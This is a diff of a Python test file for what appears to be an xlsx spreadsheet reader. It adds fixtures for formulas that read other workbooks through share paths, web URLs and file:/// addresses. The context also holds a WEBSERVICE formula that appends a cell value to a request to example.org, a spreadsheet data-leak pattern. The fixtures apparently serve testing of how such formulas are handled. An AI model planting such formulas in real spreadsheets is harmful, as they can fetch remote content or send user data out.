@@ -150,6 +150,8 @@ CELLS = {
     "a formula with a number": ('<c r="B2"><f>1+1</f><v>2</v></c>', "2"),
     "a formula with an error": ('<c r="B2" t="e"><f>1/0</f><v>#DIV/0!</v></c>', "#DIV/0!"),
     "a formula with a bar in a text": ('<c r="B2" t="str"><f>"a|b"&amp;"!"</f><v>a|b!</v></c>', "a|b!"),
+    "a formula with another sheet": ("<c r=\"B2\"><f>'my sheet'!A1+T[[#This Row],[x]]</f><v>2</v></c>", "2"),
+    "a formula with brackets in a text": ('<c r="B2" t="str"><f>"[1]Sheet!A1"&amp;A1</f><v>x</v></c>', "x"),
     "a shared formula": ('<c r="B2"><f t="shared" si="0"/><v>3</v></c>', "3"),
     "as many characters as a cell holds": (text("B2", "a" * 32_767), "a" * 32_767),
 }
@@ -492,6 +494,22 @@ UNSEEN = {
     ),
     "a formula that fetches a page": (
         book(with_cell('<c r="B2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A2)</f><v>Y</v></c>')),
+        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
+    ),
+    "a formula that reads a sheet of another workbook by its number": (
+        book(with_cell('<c r="B2" t="str"><f>[1]Sheet1!A1</f><v>Y</v></c>')),
+        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
+    ),
+    "a formula that reads a sheet of another workbook by its place": (
+        book(with_cell('<c r="B2" t="str"><f>\'/srv/share/[b.xlsx]S\'!A1</f><v>Y</v></c>')),
+        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
+    ),
+    "a formula that reads a sheet of a page of the web": (
+        book(with_cell('<c r="B2" t="str"><f>\'https://example.org/[b.xlsx]S\'!A1</f><v>Y</v></c>')),
+        accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
+    ),
+    "a formula that reads a file by its address": (
+        book(with_cell('<c r="B2" t="str"><f>\'file:///x\'#$S.A1</f><v>Y</v></c>')),
         accepted((ACTIVE, 2, 1), cells=[(2, ("1", "Y", "x"))]),
     ),
 }
